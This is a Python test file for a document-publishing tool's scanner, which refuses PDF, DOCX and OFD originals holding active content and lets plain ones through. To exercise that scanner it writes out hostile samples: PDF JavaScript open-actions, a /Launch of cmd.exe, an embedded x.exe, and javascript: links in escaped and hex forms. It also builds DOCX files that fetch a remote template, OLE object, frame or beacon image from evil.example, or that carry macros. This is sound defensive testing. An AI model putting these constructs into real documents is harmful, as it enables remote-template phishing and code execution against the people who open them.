"""Originals that would run, fetch or unpack something when a reader opens them: a PDF with
JavaScript on opening, a launch action, an embedded file or a javascript: link; a DOCX that
fetches a remote template (remote-template phishing) or object, carries macros or an altChunk;
an OFD with attachments. Each is refused at the report's `original` line, naming what was found;
plain files with ordinary links, a view set to open at a page, and a link whose path holds
/JS/ are published.

Most cases call reports.active_findings on bytes made here (milliseconds); two read the seed
农村公路养护 2022 tree as `perfsite check` does (tests/test_originals_hostile.py's helpers).
"""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pytest
from test_harden_kinds import PDF_BYTES, seed_tree
from test_originals_hostile import place, refusals

from perfsite.reports import DOCX, OFD, PDF, active_findings, format_of


def pdf(catalog: str = "", *objects: str, trailer: str = "") -> bytes:
    """A one-page PDF whose catalog has `catalog` and which holds `objects` (numbered from 5)."""
    body = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"]
    out = b"%PDF-1.7\n"
    for number, text in enumerate(body, 1):
        out += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    content = zlib.compress(b"BT /F1 12 Tf (x) Tj ET /JS /AA /Launch")  # names in stream data are not actions
    out += b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream\nendobj\n"
    for number, text in enumerate(objects, 5):
        out += f"{number} 0 obj\n{text}\nendobj\n".encode("latin-1")
    return out + f"trailer\n<< /Root 1 0 R /Size {5 + len(objects)} {trailer} >>\n%%EOF\n".encode("latin-1")


def object_stream(text: str) -> str:
    """An object stream (PDF 1.5) holding `text` as object 9, compressed."""
    data = zlib.compress(f"9 0 {text}".encode("latin-1")).decode("latin-1")
    return f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(data)} >>\nstream\n{data}\nendstream"


LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI {} >> >>"
FOUND_PDF = [
    ("open action javascript", pdf("/OpenAction 5 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"),
     "JavaScript"),
    ("escaped name", pdf("/OpenAction 5 0 R", "<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"), "JavaScript"),
    ("additional actions", pdf("/AA << /WC 5 0 R >>", "<< /S /GoTo /D [3 0 R /Fit] >>"), "/AA"),
    ("launch", pdf("/OpenAction 5 0 R", "<< /S /Launch /F (cmd.exe) >>"), "/Launch"),
    ("embedded file", pdf("/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>",
                          "<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>", "<< /Type /EmbeddedFile /Length 0 >>"),
     "/EmbeddedFile"),
    ("javascript link", pdf("", LINK.format("(javascript:alert\\(1\\))")), "javascript:"),
    ("javascript link, escaped", pdf("", LINK.format("( JAVA\\tscript\\072alert\\(1\\))")), "javascript:"),
    ("javascript link, hex", pdf("", LINK.format("<" + b"javascript:alert(1)".hex() + ">")), "javascript:"),
    ("in an object stream", pdf("/OpenAction 9 0 R", object_stream("<< /S /JavaScript /JS (x) >>")), "JavaScript"),
    ("object stream unchecked", pdf("", object_stream("x").replace("/FlateDecode", "/LZWDecode")), "对象流"),
    ("encrypted", pdf(trailer="/Encrypt 5 0 R"), "加密"),
    ("hidden after a stream keyword in a string",
     pdf("/Title (stream\n) /OpenAction << /S /JavaScript /JS (app.alert) >>"), "JavaScript"),
]


@pytest.mark.parametrize(("content", "what"), [case[1:] for case in FOUND_PDF], ids=[case[0] for case in FOUND_PDF])
def test_active_content_in_a_pdf_is_found(content: bytes, what: str) -> None:
    assert format_of(content) == PDF
    found = active_findings(content, PDF)
    assert any(what in finding for finding in found), found


PLAIN_PDF = [
    ("seed report", PDF_BYTES),
    ("made here", pdf()),
    ("http link whose path has /JS/ and /AA", pdf("", LINK.format("(https://www.gov.cn/JS/AA/Launch/index.html)"))),
    ("open at the first page", pdf("/OpenAction [3 0 R /Fit]")),
    ("mailto link", pdf("", LINK.format("(mailto:czj@example.gov.cn)"))),
    ("object stream of ordinary objects", pdf("", object_stream("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))),
]


@pytest.mark.parametrize("content", [case[1] for case in PLAIN_PDF], ids=[case[0] for case in PLAIN_PDF])
def test_a_plain_pdf_has_nothing_found(content: bytes) -> None:
    assert active_findings(content, PDF) == []


RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/' \
       'relationships">{}</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx(name: str = "", text: str = "") -> bytes:
    """A DOCX holding [Content_Types].xml, word/document.xml and the part `name` with `text`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if name:
            archive.writestr(name, text)
    return buffer.getvalue()


def relationship(kind: str, target: str, external: bool = True) -> str:
    return (f'<Relationship Id="rId9" Type="{KIND}{kind}" Target="{target}"'
            + (' TargetMode="External"' if external else "") + "/>")


FOUND_DOCX = [
    ("remote template", docx("word/_rels/settings.xml.rels", RELS.format(
        relationship("attachedTemplate", "http://evil.example/t.dotm"))), "attachedTemplate"),
    ("remote template, UNC", docx("word/_rels/settings.xml.rels", RELS.format(
        relationship("attachedTemplate", "\\\\evil.example\\share\\t.dotm"))), "attachedTemplate"),
    ("external ole object", docx("word/_rels/document.xml.rels", RELS.format(
        relationship("oleObject", "http://evil.example/o.bin"))), "oleObject"),
    ("external frame", docx("word/_rels/webSettings.xml.rels", RELS.format(
        relationship("frame", "http://evil.example/f.html"))), "frame"),
    ("external picture", docx("word/_rels/document.xml.rels", RELS.format(
        relationship("image", "http://evil.example/beacon.png"))), "image"),
    ("macros", docx("word/vbaProject.bin", "\0"), "vbaProject"),
    ("alt chunk", docx("word/_rels/document.xml.rels", RELS.format(
        relationship("aFChunk", "page.mht", external=False))), "altChunk"),
    ("javascript hyperlink", docx("word/_rels/document.xml.rels", RELS.format(
        relationship("hyperlink", "java&#x09;script:alert(1)"))), "javascript:"),
]


@pytest.mark.parametrize(("content", "what"), [case[1:] for case in FOUND_DOCX], ids=[case[0] for case in FOUND_DOCX])
def test_active_content_in_a_docx_is_found(content: bytes, what: str) -> None:
    assert format_of(content) == DOCX
    found = active_findings(content, DOCX)
    assert any(what in finding for finding in found), found


def test_a_docx_with_ordinary_links_and_pictures_has_nothing_found() -> None:
    rels = RELS.format(relationship("hyperlink", "https://www.gov.cn/JS/") + relationship("image", "media/a.png", False)
                       + relationship("styles", "styles.xml", False))
    assert active_findings(docx("word/_rels/document.xml.rels", rels), DOCX) == []


def ofd(name: str, text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("OFD.xml", '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>')
        archive.writestr(name, text)
    return buffer.getvalue()


ACTION = '<ofd:Actions><ofd:Action Event="CLICK"><ofd:URI URI="{}"/></ofd:Action></ofd:Actions>'


def test_attachments_and_script_links_in_an_ofd_are_found() -> None:
    attached = ofd("Doc_0/Attachs/Attachments.xml", '<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016">'
                   '<ofd:Attachment ID="1" Name="x.exe" FileLoc="x.exe"/></ofd:Attachments>')
    assert format_of(attached) == OFD
    assert any("附件" in finding for finding in active_findings(attached, OFD))
    linked = ofd("Doc_0/Pages/Page_0/Content.xml", ACTION.format("JavaScript:alert(1)"))
    assert any("javascript:" in finding for finding in active_findings(linked, OFD))
    assert active_findings(ofd("Doc_0/Pages/Page_0/Content.xml", ACTION.format("https://www.gov.cn/")), OFD) == []


def test_check_refuses_an_original_with_active_content_at_its_line(tmp_path: Path) -> None:
    root = seed_tree(tmp_path)
    place(root, "a.pdf", pdf("/OpenAction 5 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"))
    found = refusals(root)
    assert len(found) == 1 and found[0][:2] == (21, "original.file"), found
    assert "JavaScript" in found[0][2] and "PDF/A" in found[0][2], found


def test_check_refuses_a_docx_with_a_remote_template(tmp_path: Path) -> None:
    root = seed_tree(tmp_path)
    place(root, "a.docx", FOUND_DOCX[0][1])
    found = refusals(root)
    assert len(found) == 1 and found[0][:2] == (21, "original.file") and "attachedTemplate" in found[0][2], found


def test_the_build_refuses_an_original_with_active_content_and_publishes_nothing_of_it(tmp_path: Path) -> None:
    from mkdocs.exceptions import Abort
    from test_cache_hostile import build
    from test_harden_kinds import PDF, REPORT, folder
    from test_originals_hostile import seed_project

    tree = seed_project(tmp_path)
    (folder(tree.data) / PDF).write_bytes(pdf("/OpenAction 5 0 R", "<< /S /Launch /F (cmd.exe) >>"))
    said: list[str] = []
    with pytest.raises(Abort):
        build(tree, tmp_path / "site", None, said=said)
    assert any(f"{REPORT}:21: original.file" in line and "/Launch" in line for line in said), said[-5:]
    assert not list((tmp_path / "site").rglob(PDF))
